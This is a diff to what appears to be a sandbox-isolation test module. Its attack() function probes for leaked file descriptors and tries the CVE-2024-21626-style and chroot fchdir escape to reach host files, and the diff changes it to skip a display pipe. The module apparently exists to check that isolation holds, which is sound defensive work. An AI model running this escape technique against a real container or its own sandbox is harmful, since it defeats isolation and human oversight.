@@ -1,7 +1,7 @@
 """Reach the host's files from a descriptor that came along.
 
 Technique: a directory of the host that was left open is a way around every root (CVE-2024-21626, and the classic way
-    out of a chroot: fchdir, then `..`). Looks for descriptors beyond the standard streams, and walks up from each of
+    out of a chroot: fchdir, then `..`). Looks for descriptors beyond the standard streams and the pipe for displays, and walks up from each of
     those it has or can open, by openat, fchdir and AT_EMPTY_PATH.
 Success: a descriptor is open that the program did not open, or a file outside is read through one.
 Stopped by: descriptors, root_filesystem, mount_namespace
@@ -9,13 +9,13 @@ Stopped by: descriptors, root_filesystem, mount_namespace
 
 
 def attack():
-    for descriptor in range(3, 4096):
+    for descriptor in (number for number in range(3, 4096) if number != DISPLAYS):
         try:
             os.fstat(descriptor)
             return f"descriptor {descriptor} is {os.readlink(f'/proc/self/fd/{descriptor}')}"
         except OSError:
             pass
-    held = [0, 1, 2]
+    held = [0, 1, 2, DISPLAYS]
     for directory in ("/", "/env", "/usr", "/proc", "/dev", "/work", "/proc/1", "/proc/self/fd", "/proc/self/ns"):
         for flags in (os.O_RDONLY, os.O_PATH):
             try:
